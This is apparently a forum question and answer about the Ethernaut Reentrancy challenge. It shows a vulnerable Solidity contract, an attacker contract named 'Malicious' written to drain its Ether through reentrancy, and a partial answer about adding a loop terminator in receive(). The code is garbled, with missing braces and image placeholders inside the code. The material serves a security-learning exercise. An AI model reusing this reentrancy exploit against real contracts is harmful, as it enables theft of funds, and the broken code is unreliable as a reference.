I have been trying to pass the Reentrancy attack challenge of Ethernaut. Hence, I am creating this issue to ask help from anybody who knows where is the problem coming from.

First of all, here is the contract that I want to attack:

    // SPDX-License-Identifier: MIT
pragma solidity ^0.6.0;

import '@openzeppelin/contracts/math/SafeMath.sol';

contract Reentrance {
  using SafeMath for uint256;
  mapping(address => uint) public balances;

  function donate(address _to) public payable {
    balances[_to] = balances[_to].add(msg.value);

  function balanceOf(address _who) publicview returns (uint balance) {
    return balances[_who];

  function withdraw(uint _amount) public {
    if(balances[msg.sender] >= _amount) {
      (bool result,) = msg.sender.call{value:_amount}("");
      if(result) {
      balances[msg.sender] -= _amount;

  receive() external payable {}

And now, this is the code I have written to steal all the available Ethers from the above contract:

pragma solidity 0.8.0;

contract Malicious {

  address public target;
  address payable public owner;

  constructor(address _destination) payable {
    target = _destination;
    owner = payable(0x61CC1f8d714451778e7A9bcf3dCeA6Dc4d10CB6e);

  function acceptFunds() public payable {}

  function sendbackFunds() public {

  function deposit() public payable {
    (bool success1, ) = target.call{value: 500000000000000000}(abi.encodeWithSignature("donate(address)", address(this)));
    require(success1, "Deposit did not succeed!");function withdraw() public {
    (bool success2, ) = target.call(abi.encodeWithSignature("withdraw(uint)", 500000000000000000));
    require(success2, "Withdraw did not succeed!");

  receive() external payable {
    (bool success, ) = target.call(abi.encodeWithSignature("withdraw(uint)",500000000000000000));
    require(success, "Not successful!");As it is obvious, first i will fill my contract with some amount of Ethereum. Then I will execute deposit function which sends some predefined amount of Eth to the victim contract. At the end, I execute the withdraw function to make the victim contract stick in my virtual loop. However, while executing withdraw function of my contract I am given this error.

enter image description here

It is worth mentioning, I have used call method rather than ABI and Address of the target contract.

All in all, i cannot figure out why this error shows up whenever I try to pull my money out of the victim contract.

Thanks in advance1 Answer 1


You forget the loop terminator in your code when you are trying to re-entrance.

receive() external payable {
    uinttargetBalance = address(targetContract).balance;
    if (targetBalance >= targetValue) {

YourAnswer

By clicking “PostYour Answer”, you agree to our termsof service and acknowledge you have read our privacy policy.

Not the answer you're looking for?Browse other questions tagged or ask your own question.